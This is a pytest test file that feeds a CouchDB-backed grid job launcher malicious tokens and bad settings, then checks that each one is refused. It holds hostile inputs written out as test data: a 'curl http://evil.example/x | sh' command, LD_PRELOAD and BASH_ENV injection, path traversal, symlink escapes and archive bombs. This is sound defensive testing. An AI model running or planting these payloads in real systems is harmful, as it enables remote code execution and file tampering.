"""Bad-input corpus of the worker (issue 9): ``lrt-launcher`` given bad tokens and a bad setting.

Every case runs a real launcher process against the real server fixture, as a database user
whose password holds ``$``, ``@``, ``%`` and ``:``, on a database seeded with the case's token,
bystander tokens of another type and the views. It asserts:

* token cases: the token ends in error with the documented code and a message that names the
  problem in ``launcher_status``; the password appears nowhere in the token; nothing was
  written outside the launcher's folders;
* environment cases: the launcher's exit status and message (no traceback, no password);
* every case: no other document of the database changed (environment cases: none at all).
"""

from __future__ import annotations

import http.server
import json
import threading
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Dict, Iterator, Optional

import pytest

from grid_lrt.shared.couch import CouchDB
from grid_lrt.shared.errors import ErrorCode
from grid_lrt.shared.pool import CouchTokenPool
from grid_lrt.shared.schema import inline_attachment, new_token
from tests.corpus.archives import (
    Build,
    gz_bomb_input,
    inputs,
    planted_sandbox,
    sandbox,
    zip_bomb_sandbox,
)
from tests.support.couchdb import CouchServer
from tests.support.helpers import couch
from tests.support.launcher_kit import launcher_env, run_launcher
from tests.support.secret_user import SECRET, USER, secret_admin

TYPE = "corpus_w"


# -- cases ----------------------------------------------------------------------------------


@dataclass(frozen=True)
class TokenCase:
    """A token that the launcher must end with ``code`` and ``message``."""

    name: str
    code: ErrorCode
    message: str
    fields: Dict[str, Any] = field(default_factory=dict)
    sandbox: Optional[Build] = None
    inputs: Optional[Build] = None
    env: Dict[str, str] = field(default_factory=dict)


RESULTS = "{results}"
OUTPUT = "echo r > Output/r.txt"
NO_COMMANDS = {"LRT_TOKEN_COMMANDS": "0"}

TOKEN_CASES = [
    TokenCase(
        "attachment-traversal",
        ErrorCode.SANDBOX_UNSAFE,
        "attachment name '../../victim.parset' is not a plain file name",
        fields={
            "command": "true",
            "config.json": {"variables": {"_attachments": {"$PARSET": "../../victim.parset"}}},
        },
    ),
    TokenCase(
        "attachment-missing",
        ErrorCode.NO_DOWNLOAD_FILE,
        "the sandbox asks for the attachment 'cal.parset'",
        sandbox=sandbox(("tokvar.cfg", "file", "_attachments:\n  cal.parset: $PARSET\n")),
    ),
    TokenCase(
        "config-json-ld-preload",
        ErrorCode.TOKEN_REFUSED,
        "variables._token_keys.$LD_PRELOAD: the token may not set LD_PRELOAD",
        fields={
            "LIB": "/tmp/evil.so",
            "config.json": {"variables": {"_token_keys": {"$LD_PRELOAD": "LIB"}}},
        },
        sandbox=sandbox(),
        env=NO_COMMANDS,
    ),
    TokenCase(
        "tokvar-bash-env",
        ErrorCode.TOKEN_REFUSED,
        "tokvar.cfg, line 1: the token may not set BASH_ENV",
        fields={"SCRIPT": "/tmp/evil.sh"},
        sandbox=sandbox(("tokvar.cfg", "file", "SCRIPT: $BASH_ENV\n")),
        env=NO_COMMANDS,
    ),
    TokenCase(
        "token-command-refused",
        ErrorCode.TOKEN_REFUSED,
        "has its own 'command', and this launcher runs with --no-token-commands",
        fields={"command": "curl http://evil.example/x | sh"},
        env=NO_COMMANDS,
    ),
    TokenCase(
        "template-asks-for-the-password",
        ErrorCode.UPLOAD_FAILED,
        "uses $PICAS_USR_PWD",
        fields={"command": OUTPUT, "RESULTS_DIR": RESULTS + "/$PICAS_USR_PWD"},
        env={"LRT_EXPORT_CREDENTIALS": "1"},  # even with the password in the pipeline's env
    ),
    TokenCase(
        "template-asks-for-the-environment",
        ErrorCode.UPLOAD_FAILED,
        "uses $HOME",
        fields={"command": OUTPUT, "RESULTS_DIR": RESULTS + "/$HOME"},
    ),
    TokenCase(
        "zip-bomb-sandbox",
        ErrorCode.SANDBOX_UNSAFE,
        "unpacks to more than 100 times its size",
        sandbox=zip_bomb_sandbox,
    ),
    TokenCase(
        "gzip-bomb-input",
        ErrorCode.SANDBOX_UNSAFE,
        "input archive bomb.tar.gz refused",
        fields={"command": "true"},
        inputs=gz_bomb_input,
    ),
    TokenCase(
        "symlink-escape-across-two-inputs",
        ErrorCode.SANDBOX_UNSAFE,
        "a link ('b/c/b/c/../..') that leads outside Input once in1.tar is extracted",
        fields={"command": "true"},
        inputs=inputs([("a", "sym", "b/c/b/c/../..")], [("b", "dir", ""), ("b/c", "sym", "..")]),
    ),
    TokenCase(
        "sandbox-member-dot-sandbox",
        ErrorCode.SANDBOX_UNSAFE,
        "the name '.sandbox' is kept for the launcher's own files",
        sandbox=planted_sandbox,
    ),
    TokenCase(
        "sandbox-absolute-member",
        ErrorCode.SANDBOX_UNSAFE,
        "unsafe archive member '/tmp/lrt-corpus-evil'",
        sandbox=sandbox(("/tmp/lrt-corpus-evil", "file", "x")),
    ),
    TokenCase(
        "sandbox-checksum-mismatch",
        ErrorCode.SANDBOX_CHECKSUM_MISMATCH,
        "adler32 is",
        fields={"SBXchecksum": "adler32:00000001"},
        sandbox=sandbox(),
    ),
    TokenCase(
        "relative-sbxloc-without-base",
        ErrorCode.SANDBOX_DOWNLOAD_FAILED,
        "is a relative path, but the launcher has no sandbox base",
        fields={"SBXloc": "sandboxes/pref_cal1.tar"},
    ),
    TokenCase(
        "tokvar-bad-yaml",
        ErrorCode.SANDBOX_VARIABLES_INVALID,
        "tokvar.cfg, line 2",
        sandbox=sandbox(("tokvar.cfg", "file", "OBSID: $OBSID\n  bad: [indent\n")),
    ),
    TokenCase(
        "tokvar-not-a-mapping",
        ErrorCode.SANDBOX_VARIABLES_INVALID,
        "tokvar.cfg, line 1: expected a mapping (key: value), found a list",
        sandbox=sandbox(("tokvar.cfg", "file", "- OBSID\n- STARTSB\n")),
    ),
    TokenCase(
        "config-json-not-json",
        ErrorCode.SANDBOX_VARIABLES_INVALID,
        "token field config.json is not valid JSON",
        fields={"command": "true", "config.json": "{not json"},
    ),
    TokenCase(
        "too-many-members-with-a-lower-limit",
        ErrorCode.SANDBOX_UNSAFE,
        "holds more than 10 members",
        sandbox=sandbox(*[(f"f{n}", "file", "") for n in range(12)]),
        env={"LRT_UNPACK_MAX_MEMBERS": "10"},
    ),
]


@dataclass(frozen=True)
class EnvCase:
    """Launcher settings that must end it with ``status`` and ``message``, touching nothing."""

    name: str
    env: Dict[str, str]
    status: int
    message: str


ENV_CASES = [
    EnvCase(
        "url-bad-port",
        {"PICAS_URL": "http://127.0.0.1:99999"},
        1,
        "PICAS_URL 'http://127.0.0.1:99999' is not a usable URL: a bad port",
    ),
    EnvCase(
        "url-not-a-url",
        {"PICAS_URL": "http://[::1"},
        1,
        "PICAS_URL 'http://[::1' is not a usable URL: a syntax error",
    ),
    EnvCase(
        "url-credentials-without-scheme",
        {"PICAS_URL": f"{USER}:{SECRET}@127.0.0.1:5984"},
        1,
        "PICAS_URL '***@127.0.0.1:5984' is not an http:// or https:// URL",
    ),
    EnvCase(
        "web-page-instead-of-couchdb", {"PICAS_URL": "{web_page}"}, 1, "which is not CouchDB's"
    ),
    EnvCase(
        "wrong-password",
        {"PICAS_USR_PWD": SECRET + "x"},
        1,
        f"refused the login of user {USER!r}",
    ),
    EnvCase(
        "bad-size",
        {"LRT_UNPACK_MAX_BYTES": "lots"},
        2,
        "$LRT_UNPACK_MAX_BYTES: 'lots' is not a size",
    ),
    EnvCase(
        "bad-switch",
        {"LRT_TOKEN_COMMANDS": "perhaps"},
        2,
        "$LRT_TOKEN_COMMANDS: 'perhaps' is neither",
    ),
]


# -- fixtures ---------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def corpus_user(couchdb_server: CouchServer) -> Iterator[str]:
    """A server admin whose password holds ``$@%:``, for the launcher to log in with."""
    with secret_admin(couchdb_server) as user:
        yield user


class _WebPage(http.server.BaseHTTPRequestHandler):
    def do_GET(self) -> None:  # the http.server API
        body = b"<html><body>Our group's web site</body></html>"
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, *args: object) -> None:
        pass


@pytest.fixture(scope="module")
def web_page() -> Iterator[str]:
    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), _WebPage)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_address[1]}"
    server.shutdown()
    server.server_close()


def snapshot(db: CouchDB) -> Dict[str, str]:
    """Every document of the database (design documents too) and its revision."""
    return {str(row["id"]): str(row["value"]["rev"]) for row in db.all_docs()["rows"]}


@pytest.fixture
def corpus_db(couchdb_server: CouchServer, couch_db_name: str) -> CouchDB:
    """The database with bystander tokens of another type and the views."""
    db = couch(couchdb_server, couch_db_name)
    bystanders = [
        new_token("bystander", f"b_{n}", {"OBSID": "L1", "command": "true"}) for n in range(3)
    ]
    bystanders[0]["_attachments"] = {"srm.txt": inline_attachment(b"file:///x\n", "text/plain")}
    assert all(r.get("ok") for r in db.bulk_docs(bystanders))
    CouchTokenPool(db).ensure_views()
    return db


def _env(server: CouchServer, db: CouchDB, tmp_path: Path, extra: Dict[str, str]) -> Dict[str, str]:
    env = launcher_env(server, db.name, tmp_path, LRT_LINGER="0")
    env.update(PICAS_USR=USER, PICAS_USR_PWD=SECRET, HOME=str(tmp_path / "home"))
    env.update(extra)
    return env


# -- the cases ------------------------------------------------------------------------------


@pytest.mark.parametrize("case", [pytest.param(c, id=c.name) for c in TOKEN_CASES])
def test_token_case(
    case: TokenCase,
    corpus_db: CouchDB,
    corpus_user: str,
    couchdb_server: CouchServer,
    tmp_path: Path,
) -> None:
    files = tmp_path / "files"
    files.mkdir()
    results = tmp_path / "results"
    results.mkdir()
    fields = {
        k: (v.replace(RESULTS, results.as_uri()) if isinstance(v, str) else v)
        for k, v in case.fields.items()
    }
    if case.sandbox is not None:
        fields.setdefault("SBXloc", case.sandbox(files))
    if case.inputs is None:
        fields.setdefault("fetch_inputs", False)
    token = new_token(TYPE, f"c_{case.name}", {"OBSID": "L1", **fields})
    if case.inputs is not None:
        srm = case.inputs(files).encode()
        token["_attachments"] = {"srm.txt": inline_attachment(srm, "text/plain")}
    assert corpus_db.bulk_docs([token])[0].get("ok")
    before = snapshot(corpus_db)
    del before[token["_id"]]

    proc = run_launcher(
        _env(couchdb_server, corpus_db, tmp_path, case.env), TYPE, "--max-tasks", "1"
    )

    assert proc.returncode == 0, proc.stderr
    doc = corpus_db.get(token["_id"], attachments=True)
    assert (doc["status"], doc["output"]) == ("error", int(case.code)), doc.get("launcher_status")
    assert case.message in doc["launcher_status"], doc["launcher_status"]
    assert SECRET not in json.dumps(doc) and SECRET not in proc.stderr + proc.stdout
    assert "Traceback" not in proc.stderr
    after = snapshot(corpus_db)
    del after[token["_id"]]
    assert after == before, "another document changed"
    assert list(results.iterdir()) == []  # nothing uploaded anywhere
    assert not (tmp_path / "victim.parset").exists() and not Path("/tmp/lrt-corpus-evil").exists()


@pytest.mark.parametrize("case", ENV_CASES, ids=[c.name for c in ENV_CASES])
def test_environment_case(
    case: EnvCase,
    corpus_db: CouchDB,
    corpus_user: str,
    couchdb_server: CouchServer,
    web_page: str,
    tmp_path: Path,
) -> None:
    token = new_token(TYPE, "c_untouched", {"OBSID": "L1", "command": "true"})
    assert corpus_db.bulk_docs([token])[0].get("ok")
    before = snapshot(corpus_db)
    extra = {k: v.replace("{web_page}", web_page) for k, v in case.env.items()}

    proc = run_launcher(_env(couchdb_server, corpus_db, tmp_path, extra), TYPE)

    assert proc.returncode == case.status, proc.stderr
    assert proc.stderr.startswith("lrt-launcher: error: "), proc.stderr
    assert case.message in proc.stderr.replace(web_page, "{web_page}"), proc.stderr
    assert "Traceback" not in proc.stderr and SECRET not in proc.stderr + proc.stdout
    assert snapshot(corpus_db) == before, "the database changed"
